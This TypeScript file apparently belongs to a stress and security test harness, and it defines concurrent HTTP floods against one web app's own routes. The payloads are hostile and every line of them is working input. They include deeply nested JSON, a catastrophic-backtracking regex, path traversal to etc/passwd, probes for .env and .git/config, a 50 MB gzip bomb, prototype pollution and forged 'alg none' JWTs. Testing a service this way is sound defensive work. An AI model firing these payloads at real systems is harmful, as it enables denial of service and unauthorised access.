import { randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { type Attack, repeat, type Target } from './attack.ts';
import { type AttackCall, call } from './call.ts';

/** Calls as fast as responses arrive, over a number of connections. */
function flood(name: string, places: number, sent: (number: number) => AttackCall): Attack {
  return {
    name,
    by: 'stranger',
    run: (target: Target) => repeat(target, places, async (number) => void (await call(target, sent(number)))),
  };
}

const json = { 'content-type': 'application/json' };
const logIn = (body: string | Buffer, headers = {}): AttackCall => ({
  method: 'POST',
  path: '/auth/login',
  headers: { ...json, ...headers },
  body,
});

const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;

/** Well-formed JSON that is expensive to process. */
const bodies = [
  deep,
  `{"email":${deep}}`,
  `${'{"a":'.repeat(40_000)}1${'}'.repeat(40_000)}`,
  `{"email":${'9'.repeat(200_000)},"password":1e999}`,
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}},"email":"a@b.c","password":"x"}',
  `{${'"email":"a@b.c",'.repeat(12_000)}"password":"x"}`,
  `{${Array.from({ length: 15_000 }, (_, index) => `"k${index}":1`).join()}}`,
  `"${'\\u0000'.repeat(40_000)}"`,
  `{"email":"${'a@'.repeat(120_000)}","password":"x"}`,
  `{"email":"${'a.'.repeat(120_000)}@b","password":"x"}`,
  `{"email":"a@${'b-'.repeat(100)}.c","password":"${'e\u0301'.repeat(60_000)}"}`,
  '{"email":"\\ud800","password":"\\udfff"}',
  '[]',
  'nul',
];

const urls = [
  `/api/user/getAll?cursor=${'A'.repeat(500)}`,
  `/api/user/getAll?cursor=${encodeURIComponent(Buffer.from(`[1e308,"${'x'.repeat(300)}"]`).toString('base64url'))}`,
  `/api/user/getAll?name=${'%25'.repeat(200)}`,
  `/api/user/getAll?name=${encodeURIComponent('\u0130'.repeat(200))}`,
  `/api/skills?query=${encodeURIComponent('((((a+)+)+)+)+'.repeat(14))}`,
  '/api/user/getAll?limit=1e9',
  '/api/user/getAll?limit=100&limit=100',
  `/api/user/get/${'a'.repeat(8000)}`,
  `/api/images/${'../'.repeat(300)}etc/passwd`,
  `/assets/${'%2e%2e%2f'.repeat(300)}etc/passwd`,
  `/${'%'.repeat(5000)}`,
  `/${'a/'.repeat(4000)}`,
  `/api/skills?${Array.from({ length: 1500 }, (_, index) => `a${index}=1`).join('&')}`,
  `/api/skills?${'query=a&'.repeat(1500)}`,
  `/api/events/getAll?__proto__[x]=1&constructor=1`,
  '/.env',
  '/.git/config',
  '/api/../api//health',
];

const bomb = gzipSync(Buffer.alloc(50_000_000));

export const httpFlood: Attack[] = [
  flood('the cheapest calls', 32, (number) => ({
    path: ['/health', '/ready', '/api/skills/recent', '/metrics', '/nowhere'][number % 5] ?? '/health',
  })),
  flood('HEAD and OPTIONS', 32, (number) => ({
    method: number % 2 === 0 ? 'HEAD' : 'OPTIONS',
    path: ['/', '/api/user/getAll', '/api/events/getAll', '/nowhere'][number % 4] ?? '/',
    headers: { origin: `https://${number}.example`, 'access-control-request-method': 'POST' },
  })),
  flood('JSON that is deep, wide, huge or not text', 8, (number) => logIn(bodies[number % bodies.length] ?? '')),
  flood('addresses that are long, encoded or crafted', 16, (number) => ({
    path: urls[number % urls.length] ?? '/',
  })),
  flood('bodies that unpack to fifty megabytes', 8, (number) =>
    logIn(bomb, { 'content-encoding': ['gzip', 'deflate', 'br', 'x'][number % 4] }),
  ),
  flood('bodies as large as they may be', 8, () => logIn(`{"email":"${'é'.repeat(130_000)}"}`.slice(0, 255_000))),
  flood('conditions, ranges and languages', 16, (number) => ({
    path: ['/', '/api/user/getAll', '/users', '/icon.svg'][number % 4] ?? '/',
    headers: {
      range: `bytes=${Array.from({ length: 800 }, (_, index) => `${index}-`).join()}`,
      'if-none-match': Array.from({ length: 500 }, (_, index) => `W/"${index}"`).join(),
      'accept-encoding': ['br', 'gzip', 'identity', '*', 'br;q=0, gzip;q=0'][number % 5],
    },
  })),
  flood('tokens without a valid signature', 16, (number) => ({
    path: '/api/user/userRecommend',
    headers: forgedIdentity(number),
  })),
  flood('pages, each under a new address', 16, (number) => ({
    path: `${['/', '/users', '/events', '/blogs', '/login', '/nowhere'][number % 6]}?v=${randomUUID()}`,
    headers: { accept: 'text/html', 'accept-encoding': ['br', 'gzip', 'identity'][number % 3] },
  })),
  flood('the API reference and the contract', 16, (number) => ({
    path: ['/docs', '/openapi.yaml', '/docs/', '/articles?per_page=1000', '/articles/1'][number % 5] ?? '/docs',
  })),
];

function forgedIdentity(number: number): Record<string, string> {
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const algorithm = ['none', 'HS256', 'RS256', 'HS512'][number % 4];
  const token = `${part({ alg: algorithm, typ: 'JWT' })}.${part({ _id: randomUUID(), jti: randomUUID() })}.${'A'.repeat(43)}`;
  return number % 2 === 0 ? { authorization: `Bearer ${token}` } : { cookie: `session=${token}` };
}
